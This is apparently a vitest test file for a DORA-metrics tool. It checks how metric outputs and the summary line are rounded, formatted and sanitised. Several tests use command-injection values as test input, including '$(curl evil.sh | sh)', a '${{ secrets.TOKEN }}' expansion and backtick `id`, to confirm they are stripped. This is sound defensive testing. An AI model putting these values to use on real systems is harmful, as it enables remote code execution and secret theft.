import { describe, expect, it } from 'vitest';
import { aggregateReports } from '../../src/aggregate/aggregate.js';
import { orgOutputs } from '../../src/aggregate/outputs.js';
import { buildReport } from '../../src/report/json.js';
import { OUTPUT_NAMES, reportOutputs, roundedOutput, safeRepositoryName } from '../../src/report/outputs.js';
import type { Report } from '../../src/report/schema.js';
import { repoReport } from '../aggregate/reports.js';
import { change, deployment, doraResult, emptyMetrics, END, reportContext } from './fixtures.js';

/** Characters `summary-line` may hold: none a shell treats specially inside double quotes. */
const SAFE_LINE = /^[A-Za-z0-9 _.,:/%()-]+$/;

/** The fixture's report with the headline numbers of the brief's example (issue 12 point 6). */
function exampleReport(): Report {
  const report = buildReport(doraResult(), reportContext());
  const m = report.metrics;
  m.deploymentFrequency.perDay = 65 / 30; // 2.1666666666666665
  m.leadTime.medianSeconds = 140_121.5;
  m.changeFailureRate.rate = 14 / 65; // 0.2153846153846154
  m.changeFailureRate.tier = 'low';
  m.failedDeploymentRecoveryTime.medianSeconds = 7_500;
  m.reworkRate.rate = 0.12;
  m.overallTier = 'low';
  return report;
}

describe('reportOutputs', () => {
  it('sets exactly the documented outputs, from the current window', () => {
    const outputs = reportOutputs(buildReport(doraResult(), reportContext()));
    expect(Object.keys(outputs).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(outputs).toEqual({
      'deployment-frequency': '1.63', // 49 / 30
      'deployment-frequency-text': '1.6/day',
      'deployment-frequency-tier': 'elite',
      deployments: '49',
      'lead-time-seconds': '130697',
      'lead-time': '1d 12h',
      'lead-time-tier': 'high',
      'change-failure-rate': '0.1224', // 6 / 49
      'change-failure-rate-percent': '12.2',
      'change-failure-rate-tier': 'medium',
      'recovery-time-seconds': '6664',
      'recovery-time': '1h 51m',
      'recovery-time-tier': 'high',
      'rework-rate': '0.1224',
      'rework-rate-percent': '12.2',
      'overall-tier': 'medium',
      'deployment-source': 'workflow',
      complete: 'true',
      alerts: '0',
      'summary-line':
        'acme/shop, 30 days to 2026-06-01: deployment frequency 1.6/day (Elite), lead time 1d 12h (High), ' +
        'change failure rate 12.2% (Medium), recovery time 1h 51m (High), rework rate 12.2%, overall Medium.',
    });
  });

  it('rounds rates to 4 decimals, deployments per day to 2 and seconds to whole seconds; the JSON keeps them exact', () => {
    const report = exampleReport();
    const outputs = reportOutputs(report);
    expect(outputs['deployment-frequency']).toBe('2.17');
    expect(outputs['lead-time-seconds']).toBe('140122');
    expect(outputs['change-failure-rate']).toBe('0.2154');
    expect(outputs['recovery-time-seconds']).toBe('7500');
    expect(outputs['rework-rate']).toBe('0.12');
    expect(report.metrics.deploymentFrequency.perDay).toBe(65 / 30);
    expect(report.metrics.leadTime.medianSeconds).toBe(140_121.5);
  });

  it('rounds to plain numbers: no trailing zeros, no -0, no exponent for small rates', () => {
    expect(roundedOutput(2.1666666666666665, 2)).toBe('2.17');
    expect(roundedOutput(0.2153846153846154, 4)).toBe('0.2154');
    expect(roundedOutput(140_121.5, 0)).toBe('140122');
    expect(roundedOutput(3, 2)).toBe('3');
    expect(roundedOutput(0.1, 4)).toBe('0.1');
    expect(roundedOutput(0.00004, 4)).toBe('0');
    expect(roundedOutput(0.00005, 4)).toBe('0.0001');
    expect(roundedOutput(-0.0000001, 4)).toBe('0');
    expect(roundedOutput(0, 0)).toBe('0');
  });

  it('gives each metric as the summary writes it, and the headlines in one sentence', () => {
    const outputs = reportOutputs(exampleReport());
    expect(outputs['deployment-frequency-text']).toBe('2.2/day');
    expect(outputs['lead-time']).toBe('1d 15h');
    expect(outputs['change-failure-rate-percent']).toBe('21.5');
    expect(outputs['recovery-time']).toBe('2h 5m');
    expect(outputs['rework-rate-percent']).toBe('12');
    expect(outputs['summary-line']).toBe(
      'acme/shop, 30 days to 2026-06-01: deployment frequency 2.2/day (Elite), lead time 1d 15h (High), ' +
        'change failure rate 21.5% (Low), recovery time 2h 5m (High), rework rate 12%, overall Low.',
    );
  });

  it('writes deployments per week or month when fewer than one a day', () => {
    const report = exampleReport();
    report.metrics.deploymentFrequency.perDay = 9 / 30;
    expect(reportOutputs(report)['deployment-frequency-text']).toBe('2.1/week');
    report.metrics.deploymentFrequency.perDay = 1 / 30;
    expect(reportOutputs(report)['deployment-frequency-text']).toBe('1/month');
  });

  it('gives the empty string for a metric with no data, never 0, and says "no data" in the summary line', () => {
    const outputs = reportOutputs(buildReport(doraResult({ metrics: emptyMetrics }), reportContext({ complete: false })));
    for (const name of [
      'lead-time',
      'lead-time-tier',
      'change-failure-rate-percent',
      'change-failure-rate-tier',
      'recovery-time',
      'recovery-time-tier',
    ] as const) {
      expect(outputs[name], name).toBe('');
    }
    expect(outputs['lead-time-seconds']).toBe('');
    expect(outputs['change-failure-rate']).toBe('');
    expect(outputs['recovery-time-seconds']).toBe('');
    expect(outputs['rework-rate']).toBe('');
    expect(outputs['rework-rate-percent']).toBe('');
    expect(outputs.deployments).toBe('0');
    expect(outputs['deployment-frequency']).toBe('0');
    expect(outputs['deployment-frequency-text']).toBe('0/day');
    expect(outputs['deployment-frequency-tier']).toBe('low');
    expect(outputs.complete).toBe('false');
    expect(outputs['summary-line']).toBe(
      'acme/shop, 30 days to 2026-06-01: deployment frequency 0/day (Low), lead time no data, change failure rate no data, ' +
        'recovery time no data, rework rate no data, overall Low, data incomplete.',
    );
  });

  it('says "no tier" and "no overall tier" when the configuration is likely wrong', () => {
    const report = buildReport(doraResult({ metrics: emptyMetrics }), reportContext());
    report.metrics.deploymentFrequency.tier = null;
    report.metrics.overallTier = null;
    const outputs = reportOutputs(report);
    expect(outputs['deployment-frequency-tier']).toBe('');
    expect(outputs['summary-line']).toMatch(
      /^acme\/shop, 30 days to 2026-06-01: deployment frequency 0\/day \(no tier\), lead time no data,/,
    );
    expect(outputs['summary-line']).toMatch(/, no overall tier\.$/);
  });

  it('leaves a withheld metric empty in every output, and "not computed" in the summary line', () => {
    const report = buildReport(
      doraResult(),
      reportContext({
        complete: false,
        withheld: [
          { metric: 'leadTime', reason: 'pull requests could not be read' },
          { metric: 'reworkRate', reason: 'pull requests could not be read' },
        ],
      }),
    );
    const outputs = reportOutputs(report);
    for (const name of ['lead-time-seconds', 'lead-time', 'lead-time-tier', 'rework-rate', 'rework-rate-percent'] as const) {
      expect(outputs[name], name).toBe('');
    }
    expect(outputs['recovery-time']).toBe('1h 51m');
    expect(outputs['summary-line']).toContain(
      ': deployment frequency 1.6/day (Elite), lead time not computed, change failure rate 12.2% (Medium),',
    );
    expect(outputs['summary-line']).toContain(', rework rate not computed, overall ');
    expect(outputs['summary-line']).toMatch(/, data incomplete\.$/);
  });

  it('holds numbers, enums and its own text only: no pull request, label, branch or release text', () => {
    const hostile = '$(curl evil.sh | sh) ${{ secrets.TOKEN }} `id`';
    const d = deployment(1, END - 86_400_000, { deployment: { id: '1', time: END - 86_400_000, sha: 'a'.repeat(40), label: hostile } });
    const report = buildReport(
      doraResult({ deployments: [d], changes: [change(7, d, { title: hostile, author: hostile })] }),
      reportContext({ branch: hostile, trigger: { event: 'release', pullRequest: null, releaseTag: hostile } }),
    );
    const { 'summary-line': line, ...rest } = reportOutputs(report);
    for (const [name, value] of Object.entries(rest)) {
      expect(value, name).toMatch(
        /^(|-?\d+(\.\d+)?|elite|high|medium|low|workflow|deployments|releases|merges|true|false|[\d.,]+(\/day|\/week|\/month|%)|\d+[smhd]( \d+[smhd])?)$/,
      );
    }
    expect(line).toMatch(SAFE_LINE);
    expect(line).not.toContain('curl');
  });

  it('keeps the summary line to safe characters, whatever the repository name holds', () => {
    const report = buildReport(doraResult(), reportContext());
    report.repository =
      "acme/shop\"; $(curl evil.sh | sh) `id` ${{ secrets.TOKEN }}\n::warning::x 'q' \\ & > < * ? ! # ~ [ ] { } = + @ ^ |";
    const line = reportOutputs(report)['summary-line'];
    expect(line).toMatch(SAFE_LINE);
    expect(line).toMatch(/^acme\/shopcurlevil.shshidsecrets.TOKENwarningxq, 30 days to /);
    report.repository = '"$`';
    expect(reportOutputs(report)['summary-line']).toMatch(/^repository, 30 days to /);
    expect(safeRepositoryName('Acme-1/shop_v2.js')).toBe('Acme-1/shop_v2.js');
  });
});

describe('orgOutputs', () => {
  const opts = { benchmark: 2023 as const, generatedAt: '2026-06-01T01:00:00.000Z' };

  it("rounds and writes the organisation-wide numbers like a repository's, about the owner's repositories", () => {
    const a = repoReport('acme/a', { current: { deployDays: [1, 2, 3], leadTimes: [3_600, 7_201], recoveries: [7_500], rework: 1 } });
    const b = repoReport('acme/b', { current: { deployDays: [4, 5, 6, 7], leadTimes: [90_000] } });
    const org = aggregateReports([a, b], opts);
    const outputs = orgOutputs(org);
    expect(Object.keys(outputs).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(org.metrics.deploymentFrequency.perDay).toBe(7 / 30);
    expect(outputs['deployment-frequency']).toBe('0.23');
    expect(outputs['deployment-frequency-text']).toBe('1.6/week');
    expect(outputs['lead-time-seconds']).toBe('7201');
    expect(outputs['lead-time']).toBe('2h');
    expect(outputs['change-failure-rate']).toBe('0.1429'); // 1 / 7
    expect(outputs['change-failure-rate-percent']).toBe('14.3');
    expect(outputs['recovery-time']).toBe('2h 5m');
    expect(outputs['rework-rate-percent']).toBe('14.3');
    expect(outputs['summary-line']).toBe(
      'acme (2 repositories), 30 days to 2026-06-01: deployment frequency 1.6/week (High), lead time 2h (Elite), ' +
        'change failure rate 14.3% (Medium), recovery time 2h 5m (High), rework rate 14.3%, overall Medium.',
    );
  });

  it('names no owner when the repositories have several, and keeps names from report files to safe characters', () => {
    const a = repoReport('acme/a', { current: { deployDays: [1] } });
    const b = repoReport('other/b', { current: { deployDays: [2] } });
    expect(orgOutputs(aggregateReports([a, b], opts))['summary-line']).toMatch(/^2 repositories, 30 days to 2026-06-01: /);
    const c = repoReport('$(id)`x`/c', { current: { deployDays: [1] } });
    const line = orgOutputs(aggregateReports([c], opts))['summary-line'];
    expect(line).toMatch(/^idx \(1 repository\), 30 days to /);
    expect(line).toMatch(SAFE_LINE);
  });
});
